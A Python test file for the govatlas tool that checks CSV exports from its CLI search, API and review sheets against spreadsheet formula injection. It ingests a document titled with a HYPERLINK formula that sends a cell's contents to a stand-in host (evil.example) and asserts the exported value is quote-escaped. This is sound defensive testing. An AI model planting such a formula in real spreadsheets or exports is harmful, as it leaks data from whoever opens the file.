"""CSV formula injection end to end (issue 26, finding 4): a title from a remote
document that starts with "=" reaches the search CSV, the API's CSV and a review sheet
as text, and the sheet, filled in and applied, still records the decision."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select
from typer.testing import CliRunner

from govatlas.cli import app
from govatlas.store.models import Instrument, Label, ReviewDecision
from govatlas.store.session import transaction
from govatlas.vocabulary import LabelMethod, ReviewStatus
from govatlas.web import create_app

pytestmark = pytest.mark.engine_neutral  # the same on every database engine

runner = CliRunner(env={"COLUMNS": "400"})
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
TRIGGERS = tuple("=+-@\t\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cells: list[str]) -> list[str]:
    numeric = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [c for c in cells if c.startswith(TRIGGERS) and not numeric.fullmatch(c)]


def test_api_cli_and_review_sheets_neutralise_remote_titles(
    command_built: Engine, env_db: str, tmp_path: Path
) -> None:
    engine = command_built
    law = tmp_path / "law.txt"
    law.write_text("Article 1\n\nThe state shall invest in public compute.\n", encoding="utf-8")
    result = runner.invoke(app, ["ingest", str(law), "--title", EVIL, "--jurisdiction", "FRA"])
    assert result.exit_code == 0, result.output

    searched = runner.invoke(app, ["search", "compute", "--format", "csv"])
    assert "'" + EVIL in _cells(searched.output) and not _dangerous(_cells(searched.output))
    client = TestClient(create_app(engine))
    for url in ("/api/v1/instruments?format=csv&limit=500", "/api/v1/search?q=compute&format=csv"):
        cells = _cells(client.get(url).text)
        assert "'" + EVIL in cells, url
        assert not _dangerous(cells), url

    # a machine label on the instrument, reviewed through a sheet and applied back
    with transaction(engine) as session:
        instrument = session.scalars(select(Instrument).where(Instrument.title == EVIL)).one()
        label = Label(
            concept_id="agora:harms-discrimination",
            instrument_id=instrument.id,
            score=0.9,
            method=LabelMethod.MODEL,
            provenance="model:test",
        )
        session.add(label)
        session.flush()
        label_id = label.id
    sheet = tmp_path / "todo.csv"
    result = runner.invoke(app, ["review", "--instrument", instrument.id, "--sheet", str(sheet)])
    assert result.exit_code == 0, result.output
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["instrument name"] == "'" + EVIL and not _dangerous(_cells(sheet.read_text()))
    rows[0] |= {"decision": "accept", "reviewer": "'-ana", "note": "'=not a formula"}
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))  # a spreadsheet saving it
        writer.writeheader()
        writer.writerows(rows)
    result = runner.invoke(app, ["review", "--apply", str(sheet)])
    assert result.exit_code == 0 and "1 accepted" in result.output, result.output
    with transaction(engine) as session:
        stored = session.get_one(Label, label_id)
        assert stored.review_status is ReviewStatus.ACCEPTED
        decision = session.scalars(
            select(ReviewDecision).where(ReviewDecision.subject_id == label_id)
        ).one()
        assert decision.reviewer == "-ana" and decision.note == "=not a formula"
